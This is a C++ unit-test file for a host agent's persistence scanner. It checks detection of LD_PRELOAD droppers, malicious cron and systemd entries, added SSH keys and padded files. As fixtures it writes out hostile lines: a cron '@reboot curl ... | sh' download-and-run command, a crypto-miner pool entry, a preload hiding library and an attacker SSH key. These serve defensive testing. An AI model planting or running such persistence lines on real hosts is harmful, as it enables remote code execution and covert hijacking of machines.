#include "agent/persistence.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>

#include "agent/test/test_util.h"

namespace orderguard::agent {
namespace {

using testing::TempTree;
using testing::testdata;

std::multimap<std::string, policy::Finding> by_rule(const std::vector<policy::Finding>& fs) {
  std::multimap<std::string, policy::Finding> out;
  for (const auto& f : fs) out.emplace(f.rule_id, f);
  return out;
}

void set_mtime(const std::string& path, int64_t seconds) {
  timespec times[2] = {{seconds, 0}, {seconds, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, path.c_str(), times, 0), 0) << path;
}

int64_t wall_seconds(const Clock& clock) {
  return std::chrono::duration_cast<std::chrono::seconds>(clock.wall_now().time_since_epoch())
      .count();
}

TEST(Persistence, InfectedHost) {
  HostView view({testdata("proc"), testdata("host")});
  FakeClock clock;
  PersistenceScanner scanner(&view, &clock);
  auto found = by_rule(scanner.scan(policy::built_in_default()));

  ASSERT_EQ(found.count("ld-preload"), 1u);
  const policy::Finding& pre = found.find("ld-preload")->second;
  EXPECT_EQ(pre.evidence, "/usr/local/lib/libs.so");
  EXPECT_NE(pre.message.find("exists"), std::string::npos);
  EXPECT_NE(pre.message.find("libs.so dropper"), std::string::npos);
  EXPECT_EQ(pre.severity, policy::Severity::kStrong);

  // The curl|wget|sh line of /etc/crontab and the xmrig @reboot of root's crontab; the
  // hourly run-parts line, cron.d/logrotate and cron.daily/0anacron are benign.
  ASSERT_EQ(found.count("cron-persistence"), 2u);
  std::set<std::string> cron_paths;
  for (auto [it, end] = found.equal_range("cron-persistence"); it != end; ++it) {
    cron_paths.insert(it->second.field_path);
  }
  EXPECT_EQ(cron_paths,
            (std::set<std::string>{"/etc/crontab:5", "/var/spool/cron/crontabs/root:1"}));

  // crypto.service once (the *.wants symlink is not read again); nginx.service is clean even
  // though a non-Exec key mentions xmrig.
  ASSERT_EQ(found.count("systemd-persistence"), 1u);
  EXPECT_EQ(found.find("systemd-persistence")->second.field_path,
            "/etc/systemd/system/crypto.service:5");

  std::set<std::string> droppers;
  for (auto [it, end] = found.equal_range("dropper-file"); it != end; ++it) {
    droppers.insert(it->second.field_path);
  }
  EXPECT_EQ(droppers,
            (std::set<std::string>{"/tmp/kworkerds3", "/var/tmp/1.so", "/usr/local/lib/libs.so"}));
  // Checked-out fixture files are "in the future" for the fake clock: not recent.
  EXPECT_EQ(found.count("binary-modified"), 0u);
  EXPECT_EQ(found.count("ssh-key-added"), 0u);
}

TEST(Persistence, CleanHostHasNoFindings) {
  HostView view({testdata("proc"), testdata("host_clean")});
  FakeClock clock;
  PersistenceScanner scanner(&view, &clock);
  EXPECT_TRUE(scanner.scan(policy::built_in_default()).empty());
}

TEST(Persistence, MissingHostRootIsNotAnError) {
  HostView view({testdata("proc"), "/nonexistent-host-root"});
  FakeClock clock;
  PersistenceScanner scanner(&view, &clock);
  EXPECT_TRUE(scanner.scan(policy::built_in_default()).empty());
}

TEST(Persistence, SshKeysAddedSinceTheLastScan) {
  TempTree host("host_clean");
  std::filesystem::create_directories(host.path() + "/home/dev/.ssh");
  std::string keys = host.path() + "/home/dev/.ssh/authorized_keys";
  std::ofstream(keys) << "ssh-ed25519 AAAA1 dev@laptop\n";
  FakeClock clock;
  set_mtime(keys, wall_seconds(clock) - 7 * 24 * 3600);
  HostView view({testdata("proc"), host.path()});
  PersistenceScanner scanner(&view, &clock);
  EXPECT_TRUE(scanner.scan(policy::built_in_default()).empty());  // baseline, old file

  std::ofstream(keys, std::ios::app) << "ssh-rsa AAAA2 root@attacker\n";
  auto found = scanner.scan(policy::built_in_default());
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].rule_id, "ssh-key-added");
  EXPECT_EQ(found[0].field_path, "/home/dev/.ssh/authorized_keys");
  EXPECT_NE(found[0].message.find("root@attacker"), std::string::npos);
  EXPECT_TRUE(scanner.scan(policy::built_in_default()).empty());  // reported once
}

TEST(Persistence, RecentlyModifiedBinariesAndKeysOnTheFirstScan) {
  TempTree host("host_clean");
  FakeClock clock;
  int64_t now = wall_seconds(clock);
  std::string fresh = host.path() + "/usr/bin/sshd2";
  std::ofstream(fresh) << "x";
  set_mtime(fresh, now - 3600);
  set_mtime(host.path() + "/usr/bin/ls", now - 30 * 24 * 3600);
  std::filesystem::create_directories(host.path() + "/root/.ssh");
  std::string keys = host.path() + "/root/.ssh/authorized_keys";
  std::ofstream(keys) << "ssh-rsa AAAA3 x@y\n";
  set_mtime(keys, now - 60);
  HostView view({testdata("proc"), host.path()});
  PersistenceScanner scanner(&view, &clock, std::chrono::hours(24));
  auto found = by_rule(scanner.scan(policy::built_in_default()));
  ASSERT_EQ(found.count("binary-modified"), 1u);
  EXPECT_EQ(found.find("binary-modified")->second.field_path, "/usr/bin/sshd2");
  EXPECT_EQ(found.find("binary-modified")->second.severity, policy::Severity::kWeak);
  ASSERT_EQ(found.count("ssh-key-added"), 1u);
  EXPECT_EQ(found.find("ssh-key-added")->second.field_path, "/root/.ssh/authorized_keys");
}

// Files are read whole, line by line: padding before the entry does not hide it.
TEST(Persistence, AMinerLineAfterMegabytesOfCommentsIsFound) {
  TempTree host("host_clean");
  std::string padded;
  size_t lines = 0;
  while (padded.size() < 1'100'000) {
    padded += "# rotate the logs of the web tier every night; see the runbook for details\n";
    ++lines;
  }
  std::ofstream(host.path() + "/etc/cron.d/padded")
      << padded << "* * * * * root /tmp/.x/m -o stratum+tcp://pool.example.com:3333\n";
  HostView view({testdata("proc"), host.path()});
  FakeClock clock;
  PersistenceScanner scanner(&view, &clock);
  auto found = by_rule(scanner.scan(policy::built_in_default()));
  ASSERT_EQ(found.count("cron-persistence"), 1u);
  EXPECT_EQ(found.find("cron-persistence")->second.field_path,
            "/etc/cron.d/padded:" + std::to_string(lines + 1));
  EXPECT_EQ(found.count("oversized-file"), 0u);
}

// Every line is counted, and the baseline remembers all of them: the next scan reports the
// one key added after a million, and only it.
TEST(Persistence, AMillionLineAuthorizedKeysIsCountedWhole) {
  TempTree host("host_clean");
  std::filesystem::create_directories(host.path() + "/root/.ssh");
  const std::string keys = host.path() + "/root/.ssh/authorized_keys";
  {
    std::ofstream out(keys);
    char line[64];
    for (int i = 0; i < 1'000'000; ++i) {
      std::snprintf(line, sizeof(line), "ssh-ed25519 AAAA%07d k@fleet\n", i);
      out << line;
    }
  }
  FakeClock clock;
  set_mtime(keys, wall_seconds(clock) - 60);
  HostView view({testdata("proc"), host.path()});
  PersistenceScanner scanner(&view, &clock);
  auto first = by_rule(scanner.scan(policy::built_in_default()));
  ASSERT_EQ(first.count("ssh-key-added"), 1u);
  EXPECT_NE(first.find("ssh-key-added")->second.message.find("(1000000 keys)"), std::string::npos)
      << first.find("ssh-key-added")->second.message;

  std::ofstream(keys, std::ios::app) << "ssh-rsa AAAAnew root@attacker\n";
  auto second = by_rule(scanner.scan(policy::built_in_default()));
  ASSERT_EQ(second.count("ssh-key-added"), 1u);
  EXPECT_EQ(second.find("ssh-key-added")->second.evidence, "ssh-rsa AAAAnew root@attacker");
}

// Over the bound, the file is named; the lines before the bound are still checked.
TEST(Persistence, AFileOverTheBoundIsReportedByName) {
  TempTree host("host_clean");
  std::ofstream(host.path() + "/etc/cron.d/padded")
      << "@reboot root curl -fsSL http://203.0.113.5/x | sh\n"
      << std::string(100'000, '#') << "\n"
      << "* * * * * root /tmp/.x/m -o stratum+tcp://pool.example.com:3333\n";
  std::ofstream(host.path() + "/etc/ld.so.preload")
      << std::string(5'000, ' ') << "/usr/local/lib/libhide.so\n";
  HostView view({testdata("proc"), host.path()});
  FakeClock clock;
  PersistenceScanner scanner(&view, &clock, std::chrono::hours(24),
                             LineLimits{.max_file_bytes = 64 << 10, .max_line_bytes = 4096});
  auto found = by_rule(scanner.scan(policy::built_in_default()));
  std::set<std::string> oversized;
  for (auto [it, end] = found.equal_range("oversized-file"); it != end; ++it) {
    oversized.insert(it->second.field_path);
    EXPECT_EQ(it->second.severity, policy::Severity::kStrong);
  }
  EXPECT_EQ(oversized, (std::set<std::string>{"/etc/cron.d/padded", "/etc/ld.so.preload"}));
  ASSERT_EQ(found.count("cron-persistence"), 1u);  // the first line, before the bound
  EXPECT_EQ(found.find("cron-persistence")->second.field_path, "/etc/cron.d/padded:1");
}

}  // namespace
}  // namespace orderguard::agent
